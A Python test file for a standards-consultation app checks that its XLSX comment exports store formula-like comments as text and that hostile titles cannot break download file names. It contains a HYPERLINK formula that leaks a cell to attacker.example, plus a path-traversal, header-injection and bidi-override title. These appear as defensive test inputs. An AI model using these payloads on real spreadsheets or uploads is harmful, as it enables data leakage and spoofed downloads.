"""A comment that reads like a spreadsheet formula comes out of the 汇总处理表 and the ISO template as
the text its author typed: openpyxl would otherwise store it as a formula that Excel runs."""

from __future__ import annotations

import io

import openpyxl
from app_testing import login

HOSTILE = '=HYPERLINK("http://attacker.example/?leak="&A1,"点此查看")'


def test_a_formula_typed_as_a_comment_stays_text_in_both_xlsx_tables(
    in_consultation, member, secretariat, app, comment_on
):
    comment_on(in_consultation, member, "scope", "基本要求", comment=HOSTILE)
    client = app.test_client()
    login(client, secretariat)
    for path in ("comment-table.xlsx", "iso-comments.xlsx"):
        sheet = openpyxl.load_workbook(
            io.BytesIO(client.get(f"/standards/{in_consultation.id}/{path}").data)
        ).active
        cells = [cell for row in sheet.iter_rows() for cell in row if cell.value]
        typed = [cell for cell in cells if isinstance(cell.value, str) and "HYPERLINK" in cell.value]
        assert typed, path
        assert all(cell.data_type == "s" for cell in typed), path
        assert not [cell for cell in cells if cell.data_type == "f"], path


def test_every_formula_start_stays_text_in_headings_and_cells(make_standard, member, secretariat, app, clock):
    """OWASP's starts (= + - @ tab CR) in the standard's title, a comment and its proposed change:
    no cell of either table is a formula, and each reads as typed."""
    from hostile_files import FORMULA_CELLS

    from authoring.examples import example_text
    from authoring.models import Stage
    from workflow import operations as stages
    from workflow.comments import operations

    title = '=HYPERLINK("http://x","y")'
    standard = make_standard(example_text("community-care"), title=title)
    stages.transition(
        standard,
        secretariat,
        Stage.CONSULTATION,
        now=clock.tick(),
        closes_at="2999-12-31",
        audience="members",
    )
    for typed in FORMULA_CELLS:
        operations.create_comment(
            standard,
            member,
            operations.Selector(standard.latest_number, "scope", "基本要求"),
            operations.CommentFields("te", typed, typed),
            now=clock.tick(),
        )
    from extensions import db

    db.session.commit()
    client = app.test_client()
    login(client, secretariat)
    for path in ("comment-table.xlsx", "iso-comments.xlsx"):
        answer = client.get(f"/standards/{standard.id}/{path}")
        assert answer.status_code == 200, path
        sheet = openpyxl.load_workbook(io.BytesIO(answer.data)).active
        cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
        assert not [cell.coordinate for cell in cells if cell.data_type == "f"], path
        values = [cell.value for cell in cells]
        assert any(isinstance(v, str) and v.startswith(title) for v in values), path
        for typed in FORMULA_CELLS:  # the 汇总处理表 adds the proposed change below the comment
            assert any(isinstance(v, str) and v.startswith(typed.strip()) for v in values[3:]), (path, typed)


def test_a_hostile_title_cannot_break_the_downloads_file_name(make_standard, secretariat, app):
    """The saved name begins with the title: no path, quote, line break or bidi override gets into it."""
    from urllib.parse import unquote

    standard = make_standard(title='../../etc/x"; filename=evil.exe \u202egpj')
    client = app.test_client()
    login(client, secretariat)
    for path in ("comment-table.xlsx", "iso-comments.docx"):
        header = client.get(f"/standards/{standard.id}/{path}").headers["Content-Disposition"]
        fallback, encoded = header.split("; filename*=UTF-8''")
        assert fallback == f'attachment; filename="comments.{path.rsplit(".", 1)[1]}"'
        assert not set(encoded) & set("\"'; /\\\r\n")
        saved = unquote(encoded)
        assert "/" not in saved and "\u202e" not in saved and saved.endswith(path.rsplit(".", 1)[1])
        assert saved.startswith('_.._etc_x"; filename=evil.exe gpj')  # no leading dot: not a hidden file
